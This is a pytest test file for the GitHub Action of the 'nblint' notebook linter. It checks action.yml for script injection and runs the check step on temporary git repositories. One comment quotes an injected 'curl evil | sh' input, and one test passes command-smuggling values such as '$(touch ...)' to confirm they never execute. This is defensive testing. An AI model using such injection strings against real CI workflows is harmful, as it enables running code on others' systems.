"""The GitHub Action: action.yml parsed and checked for script injection, and its check step
(`python -m nblint.integrations.action`) run as GitHub runs it, with the environment variables GitHub sets, in a real
git repository holding a base and a head commit.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import REPO
from gitrepo import GitRepo

pytestmark = pytest.mark.slow  # real git repositories and the action's scripts for every test

SARIF_SCHEMA = REPO.parent / "shared" / "data" / "sarif-schema-2.1.0.json"
LOOP = "while True:\n    pass\n"  # NB201 unbounded-loop, error
SYNTAX = "def f(:\n    pass\n"  # NB001 syntax-error, error
SLEEP = "import time\ntime.sleep(36000)\n"  # NB405 long-sleep, warning


def load_action() -> dict:
    return yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))


# ------------------------------------------------------------------------------------------ action.yml


def test_no_run_line_interpolates_anything():
    # An input inside `run:` is pasted into the script before bash reads it: `${{ inputs.paths }}` set
    # to `"; curl evil | sh; "` would run. Inputs reach the steps only through `env:`.
    action = load_action()
    steps = action["runs"]["steps"]
    run_steps = [step for step in steps if "run" in step]
    assert run_steps
    for step in run_steps:
        assert "${{" not in step["run"], step["name"]
        assert step.get("shell") == "bash", step["name"]
    # The raw text too: no `run:` line anywhere holds an expression.
    for line in (REPO / "action.yml").read_text(encoding="utf-8").splitlines():
        if re.match(r"\s*(- )?run:", line):
            assert "${{" not in line


def test_every_input_is_documented_has_a_default_and_reaches_the_step_through_env():
    action = load_action()
    assert action["runs"]["using"] == "composite"
    inputs = action["inputs"]
    assert set(inputs) == {"paths", "diff-base", "select", "ignore", "fail-on", "sarif-file", "python-version"}
    for name, spec in inputs.items():
        assert spec.get("description"), name
        assert "default" in spec, name
    assert inputs["fail-on"]["default"] == "error"
    for word in ("error", "warning", "info", "never"):
        assert word in inputs["fail-on"]["description"]
    used = "\n".join(
        json.dumps(step.get("env", {})) + json.dumps(step.get("with", {})) for step in action["runs"]["steps"]
    )
    for name in inputs:
        assert f"inputs.{name} }}" in used, name


def test_the_install_step_installs_the_actions_own_checkout_with_the_diff_extra():
    steps = {step["name"]: step for step in load_action()["runs"]["steps"]}
    install = steps["Install nblint"]
    assert install["env"]["NBLINT_ACTION_PATH"] == "${{ github.action_path }}"
    assert '"$NBLINT_ACTION_PATH[diff]"' in install["run"]
    assert "-m venv" in install["run"]
    assert steps["Check notebooks"]["run"].strip("'\" ").endswith("-m nblint.integrations.action")


# ----------------------------------------------------------------------------------- the check step


class Runner:
    """What GitHub gives a step: the workspace (a checkout), the event file, GITHUB_OUTPUT and the summary."""

    def __init__(self, tmp_path: Path):
        self.repo = GitRepo(tmp_path / "workspace")
        self.output = tmp_path / "github_output"
        self.summary = tmp_path / "step_summary"
        self.event_file = tmp_path / "event.json"
        self.output.touch()
        self.summary.touch()

    def run(self, event: str = "pull_request", base: str | None = None, **inputs: str) -> subprocess.CompletedProcess:
        payload = (
            {"pull_request": {"base": {"sha": base}, "number": 7}} if event == "pull_request" else {"before": base}
        )
        self.event_file.write_text(json.dumps(payload), encoding="utf-8")
        env = dict(self.repo.env)
        env.update(
            GITHUB_ACTIONS="true",
            GITHUB_EVENT_NAME=event,
            GITHUB_EVENT_PATH=str(self.event_file),
            GITHUB_OUTPUT=str(self.output),
            GITHUB_STEP_SUMMARY=str(self.summary),
            GITHUB_WORKSPACE=str(self.repo.root),
        )
        for name, value in inputs.items():
            env[f"NBLINT_{name.upper()}"] = value
        return subprocess.run(
            [sys.executable, "-m", "nblint.integrations.action"],
            cwd=self.repo.root,
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )

    def outputs(self) -> dict[str, str]:
        return dict(line.split("=", 1) for line in self.output.read_text().splitlines())


@pytest.fixture
def runner(tmp_path):
    return Runner(tmp_path)


def annotations(result) -> list[str]:
    return [line for line in result.stdout.splitlines() if line.startswith("::")]


def pull_request(runner: Runner) -> str:
    """A base commit and a head commit: one notebook edited, one untouched, one deleted, one added."""
    repo = runner.repo
    repo.notebook("analysis/edited.ipynb", ["import time\n", LOOP, "x = 1\n"])
    repo.notebook("untouched.ipynb", [LOOP])
    # Long enough to differ from added.ipynb by more than half: git's rename detection would otherwise
    # pair the two small notebooks (their JSON boilerplate alike) and judge added.ipynb against it.
    repo.notebook(
        "deleted.ipynb", [{"cell_type": "markdown", "source": "".join(f"Old note {i}.\n" for i in range(60))}]
    )
    base = repo.commit("base")
    repo.notebook("analysis/edited.ipynb", ["import time\n", LOOP, "x = 2\n", SYNTAX, "time.sleep(36000)\n"])
    (repo.root / "deleted.ipynb").unlink()
    repo.notebook("added.ipynb", ["y = 1\n", LOOP])
    repo.commit("head")
    return base


def test_pull_request_annotates_only_the_changed_cells_of_the_changed_notebooks(runner):
    base = pull_request(runner)
    result = runner.run(base=base)
    assert result.returncode == 1, result.stdout + result.stderr
    lines = annotations(result)
    assert len(lines) == 3, lines
    # The annotation sits on the .ipynb line that holds the cell's source line, as the PR diff shows it.
    text = (runner.repo.root / "analysis" / "edited.ipynb").read_text().splitlines()
    syntax = next(line for line in lines if "NB001" in line)
    match = re.match(
        r"::error file=analysis/edited\.ipynb,line=(\d+),title=NB001 syntax-error::cell 4, line 1: ", syntax
    )
    assert match, syntax
    assert text[int(match.group(1)) - 1].strip() == '"def f(:\\n",'
    assert any(line.startswith("::warning file=analysis/edited.ipynb,") and "NB405" in line for line in lines)
    assert any(line.startswith("::error file=added.ipynb,") and "NB201" in line for line in lines)
    assert not any("untouched" in line or "cell 2, line 1" in line and "edited" in line for line in lines)

    assert runner.outputs() == {"findings": "3", "errors": "2", "warnings": "1", "infos": "0", "notebooks": "2"}
    summary = runner.summary.read_text()
    assert summary.startswith("## nblint\n")
    assert "**3 findings** (2 errors, 1 warning) in 2 of 2 notebooks checked" in summary
    assert f"pull request's base `{base[:12]}`" in summary
    assert "The check failed (fails on error)" in summary
    assert "### Findings by code" in summary and "| NB201 | unbounded-loop | error | 1 |" in summary
    assert "| NB405 | long-sleep | warning | 1 |" in summary
    worst = summary.split("### Worst notebooks")[1]
    assert worst.index("`analysis/edited.ipynb` | 1 | 1 | 0 | 2 |") < worst.index("`added.ipynb` | 1 | 0 | 0 | 1 |")


@pytest.mark.slow  # runs the action's entry point once per threshold
def test_fail_on_sets_the_threshold(runner):
    repo = runner.repo
    repo.notebook("nb.ipynb", ["x = 1\n"])
    base = repo.commit("base")
    repo.notebook("nb.ipynb", ["x = 1\n", SLEEP])  # a warning only
    repo.commit("head")
    assert runner.run(base=base).returncode == 0  # default: fails on error
    assert runner.run(base=base, fail_on="warning").returncode == 1
    assert runner.run(base=base, fail_on="info").returncode == 1
    quiet = runner.run(base=base, fail_on="never")
    assert quiet.returncode == 0 and len(annotations(quiet)) == 1
    bad = runner.run(base=base, fail_on="sometimes")
    assert bad.returncode == 2
    assert annotations(bad) == [
        "::error title=nblint::fail-on must be one of error, warning, info, never, not 'sometimes'"
    ]


def test_push_judges_every_cell_of_every_notebook_under_paths(runner):
    repo = runner.repo
    repo.notebook("a/one.ipynb", [LOOP, SYNTAX])
    repo.notebook("b/two.ipynb", [LOOP])
    head = repo.commit("only commit")
    result = runner.run(event="push", base=head, paths="a")
    assert result.returncode == 1
    assert [line.split("::")[1].split(",")[0] for line in annotations(result)] == ["error file=a/one.ipynb"] * 2
    assert runner.outputs()["notebooks"] == "1"
    assert "every cell (not a pull request) judged" in runner.summary.read_text()


def test_select_ignore_and_sarif(runner):
    base = pull_request(runner)
    sarif = runner.repo.root.parent / "out" / "nblint.sarif"
    result = runner.run(base=base, select="NB2,NB4", ignore="NB405", sarif_file=str(sarif))
    assert [re.search(r"title=(NB\d+)", line).group(1) for line in annotations(result)] == ["NB201"]
    document = json.loads(sarif.read_text())
    assert [r["ruleId"] for r in document["runs"][0]["results"]] == ["NB201"]
    if SARIF_SCHEMA.exists():
        import jsonschema

        jsonschema.validate(document, json.loads(SARIF_SCHEMA.read_text()))


def test_a_pull_request_changing_no_notebook(runner):
    repo = runner.repo
    repo.notebook("nb.ipynb", [LOOP])
    base = repo.commit("base")
    repo.write("README.md", "words\n")
    repo.commit("docs only")
    result = runner.run(base=base)
    assert result.returncode == 0, result.stderr
    assert annotations(result) == []
    assert runner.outputs()["notebooks"] == "0"
    assert "No notebooks to check" in runner.summary.read_text()


def test_diff_base_none_judges_every_cell_on_a_pull_request(runner):
    base = pull_request(runner)
    result = runner.run(base=base, diff_base="none", fail_on="never")
    assert result.returncode == 0
    assert runner.outputs()["notebooks"] == "3"
    assert sum("NB201" in line for line in annotations(result)) == 3


def test_a_missing_base_commit_is_fetched_or_explained(runner):
    repo = runner.repo
    repo.notebook("nb.ipynb", [LOOP])
    repo.commit("base")
    result = runner.run(base="0123456789abcdef0123456789abcdef01234567")
    assert result.returncode == 2
    assert "fetch-depth: 0" in result.stdout


def test_inputs_are_never_run_as_shell(runner, tmp_path):
    base = pull_request(runner)
    marker = tmp_path / "pwned"
    result = runner.run(base=base, paths=f"$(touch {marker}) `touch {marker}`", select=f"NB1;touch {marker}")
    assert result.returncode == 2
    assert not marker.exists()


@pytest.mark.slow
def test_the_action_steps_as_github_runs_them(tmp_path):
    """Both `run:` scripts of action.yml through bash, with the variables GitHub sets: a fresh venv with
    nblint[diff] installed from this checkout, then the check on a pull request."""
    runner = Runner(tmp_path)
    base = pull_request(runner)
    steps = {step["name"]: step for step in load_action()["runs"]["steps"]}
    runner_temp = tmp_path / "runner_temp"
    runner_temp.mkdir()
    install_output = tmp_path / "install_output"
    install_output.touch()
    env = dict(
        runner.repo.env,
        RUNNER_TEMP=str(runner_temp),
        GITHUB_OUTPUT=str(install_output),
        NBLINT_ACTION_PATH=str(REPO),
        NBLINT_PYTHON=sys.executable,
    )
    install = subprocess.run(
        ["bash", "-e", "-c", steps["Install nblint"]["run"]],
        cwd=runner.repo.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=900,
    )
    assert install.returncode == 0, install.stdout + install.stderr
    bin_folder = install_output.read_text().strip().removeprefix("bin=")
    assert Path(bin_folder, "python").exists()

    # That venv holds a regular (non-editable) install: install-hooks finds its hook in the package data.
    hooked = GitRepo(tmp_path / "hooked")
    installed = subprocess.run(
        [str(Path(bin_folder, "nblint")), "install-hooks"],
        cwd=hooked.root,
        env=hooked.env,
        capture_output=True,
        text=True,
    )
    assert installed.returncode == 0, installed.stderr
    hook_text = (hooked.root / ".git" / "hooks" / "pre-commit").read_text()
    assert f"NBLINT_INSTALLED={Path(bin_folder, 'nblint')}" in hook_text

    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"base": {"sha": base}}}))
    env = dict(
        runner.repo.env,
        NBLINT_BIN=bin_folder,
        NBLINT_PATHS=".",
        NBLINT_DIFF_BASE="",
        NBLINT_SELECT="",
        NBLINT_IGNORE="",
        NBLINT_FAIL_ON="error",
        NBLINT_SARIF_FILE="",
        GITHUB_EVENT_NAME="pull_request",
        GITHUB_EVENT_PATH=str(event),
        GITHUB_OUTPUT=str(runner.output),
        GITHUB_STEP_SUMMARY=str(runner.summary),
    )
    env.pop("PYTHONPATH", None)
    check = subprocess.run(
        ["bash", "-c", steps["Check notebooks"]["run"]],
        cwd=runner.repo.root,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert check.returncode == 1, check.stdout + check.stderr
    assert len(annotations(check)) == 3
    assert runner.outputs()["findings"] == "3"
    assert "### Worst notebooks" in runner.summary.read_text()


def test_a_broken_configuration_is_one_error_line(runner):
    repo = runner.repo
    repo.write("pyproject.toml", '[tool.nblint]\nselect = ["NB201"\n')  # unterminated array
    repo.notebook("nb.ipynb", [LOOP])
    result = runner.run(event="push", base=repo.commit("base"))
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert [line.split("::")[1] for line in annotations(result)] == ["error title=nblint"]
    assert "pyproject.toml" in result.stdout
